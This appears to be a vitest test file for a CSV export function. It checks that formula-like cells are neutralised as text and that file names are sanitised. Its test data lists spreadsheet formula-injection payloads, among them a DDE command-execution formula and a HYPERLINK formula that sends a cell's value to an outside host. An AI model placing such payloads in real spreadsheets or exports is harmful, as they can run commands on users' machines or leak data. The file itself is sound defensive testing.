import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvFileName, csvOf, guarded, type Cell } from './csv.ts'

const columns = [
  { heading: 'Name', of: (row: readonly Cell[]) => row[0] ?? null },
  { heading: 'Note', of: (row: readonly Cell[]) => row[1] ?? null },
]

/** Reads a table back by the letter of RFC 4180: written apart from what wrote it. */
function readBack(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]]
  let cell = ''
  let inQuotes = false
  for (let at = text.startsWith('\uFEFF') ? 1 : 0; at < text.length; at += 1) {
    const letter = text[at] ?? ''
    if (inQuotes && letter === '"' && text[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (letter === '"') inQuotes = !inQuotes
    else if (letter === ',' && !inQuotes) {
      rows.at(-1)?.push(cell)
      cell = ''
    } else if (letter === '\r' && text[at + 1] === '\n' && !inQuotes) {
      rows.at(-1)?.push(cell)
      rows.push([])
      cell = ''
      at += 1
    } else cell += letter
  }
  return rows.slice(0, -1)
}

/** Everything that a spreadsheet was ever seen to run. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+44 7700 900318',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '−1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  "'=1+1",
  '=HYPERLINK("https://elsewhere.example/?x="&A1,"See")',
]

describe('an export', () => {
  it.each(formulas)('shows %j as text', (typed) => {
    const [, row] = readBack(csvOf(columns, [[typed, 'b']]))
    expect(row?.[0]).toBe(`'${typed}`)
  })

  it.each([
    'O’Brien',
    'Łukasz Żółć',
    'محمد',
    '12 Mill Lane, Ashmere',
    'a "quoted" word',
    'two\nlines',
    '',
    'x=1',
    'a-b',
    '3 + 4',
  ])('leaves %j as it was typed', (typed) => {
    expect(readBack(csvOf(columns, [['a', typed]]))).toEqual([
      ['Name', 'Note'],
      ['a', typed],
    ])
  })

  it('keeps numbers numbers, also those below nothing', () => {
    expect(csvOf(columns, [[-90, true]])).toBe('\uFEFFName,Note\r\n-90,true\r\n')
  })

  it('reads back as what was put in, whatever it was, and no cell begins a formula', () => {
    const cell = fc.oneof(
      fc.constantFrom(...formulas),
      fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",\';a é\u200b＝'), maxLength: 12 }),
    )
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { maxLength: 4 }), (rows) => {
        const [, ...read] = readBack(csvOf(columns, rows))
        const wanted = rows.map((row) => row.map((one) => guarded(one)))
        return (
          JSON.stringify(read) === JSON.stringify(wanted) &&
          !read.flat().some((one) => /^[=+\-@\t\r\n＝＋－＠]/.test(one))
        )
      }),
      { numRuns: 300 },
    )
  })

  it('has a file name that says nothing of anybody', () => {
    expect(csvFileName('TOIL / Ewa "K"; ..\\x', '2026-11-12')).toBe('toil-ewa-k-x-2026-11-12.csv')
  })
})
